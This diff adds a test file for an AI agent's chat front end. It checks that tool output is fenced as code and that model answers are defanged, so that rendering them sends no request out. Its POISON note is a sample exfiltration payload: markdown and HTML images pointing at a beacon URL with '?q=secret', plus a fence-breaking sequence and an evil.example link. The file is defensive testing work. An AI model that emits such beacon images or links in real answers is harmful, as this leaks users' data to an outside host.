@@ -1,0 +1,72 @@
+"""What a front end renders of an answer: what tools said as code, and nothing that fetches or leads elsewhere."""
+
+from pathlib import Path
+
+import pytest
+from markdown_it import MarkdownIt
+from support.browser import chromium
+from support.graphs import run_once, session
+from support.notebook import Notebook
+from support.prompts import call, intent, review
+from support.scripted_deciders import call as selected
+from support.scripted_deciders import scripted
+from support.scripted_openai import ScriptedOpenAI
+from support.streams import stream
+
+from deciders.protocols import Deciders
+
+BEACON = "http://127.0.0.1:9/beacon.png"
+POISON = f'{{"a": 1,\n "b": 2}}\n```\n![x]({BEACON}?q=secret) <img src="{BEACON}">\n[y]: {BEACON}'
+READ_A = selected("notebook.read_note", name="a")
+YES, NO = intent(needs_tool=True), intent(needs_tool=False)
+GFM = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+
+
+async def test_what_a_tool_said_is_one_block_of_code_and_plain_where_text_is_shown():
+    packet = await run_once(scripted(READ_A), "Read note a", Notebook(a=POISON))
+    kinds = [token.type for token in GFM.parse(packet.messages[-1].text)]
+    assert kinds == ["paragraph_open", "inline", "paragraph_close", "fence"]
+    assert packet.messages[-1].text == f"notebook.read_note (name=a):\n````\n{POISON}\n````"
+    assert packet.response.candidate == f"notebook.read_note (name=a):\n{POISON}"
+
+
+@pytest.mark.parametrize("tool", ["read_note", "check_weather"])
+async def test_so_is_what_it_says_in_a_dry_run_and_when_it_fails(tool: str):
+    notebook = Notebook(a=POISON)
+    asked = selected("notebook.check_weather", city="Bern"), selected("notebook.save_note", name="a", text="x")
+    packet = await run_once(scripted(asked[tool == "read_note"]), "Do it", notebook)
+    fences = [token.content for token in GFM.parse(packet.messages[-1].text) if token.type == "fence"]
+    assert fences in (
+        ["the weather station burned down\n"],
+        ["it was not called, because write tools are switched off\n"],
+    )
+
+
+async def test_a_models_answer_is_inert_at_once_and_in_pieces(by_model: Deciders, scripted_openai: ScriptedOpenAI):
+    answer = f"It says ![x]({BEACON}?q=secret), see https://evil.example, https://docs.example/a and ```x```."
+    inert = (
+        "It says ![x] (http[:]//127.0.0.1:9/beacon.png?q=secret), see https[:]//evil.example, "
+        "https://docs.example/a and ```x```."
+    )
+    script = (YES, call("notebook.read_note", name="a"), review(0.9), NO, answer)
+    scripted_openai.script(*script)
+    async with session(by_model, Notebook(a=POISON)) as talk:
+        turn = await stream(talk, "Read note a, as https://docs.example/a says")
+    assert turn.shown == {turn.packet.messages[-1].id: inert}
+    assert len(turn.chunks) > 3
+    assert turn.packet.messages[-1].text == turn.packet.response.candidate == inert
+
+
+async def test_no_request_leaves_a_browser_that_renders_it(
+    by_model: Deciders, scripted_openai: ScriptedOpenAI, tmp_path: Path
+):
+    scripted_openai.script(YES, call("notebook.read_note", name="a"), review(0.9), NO, POISON)
+    notebook = Notebook(a=POISON)
+    packets = [await run_once(one, "Read note a", notebook) for one in (by_model, scripted(READ_A))]
+    (tmp_path / "raw.html").write_text(GFM.render(f"![x]({BEACON}) <img src='{BEACON}'>"))
+    for number, packet in enumerate(packets):
+        (tmp_path / f"{number}.html").write_text(GFM.render(packet.messages[-1].text))
+    with chromium(tmp_path / "profile") as browser:
+        for name, leaves in (("raw.html", True), ("0.html", False), ("1.html", False)):
+            browser.open(tmp_path / name)
+            assert any(address.startswith(BEACON) for address in browser.requested) is leaves
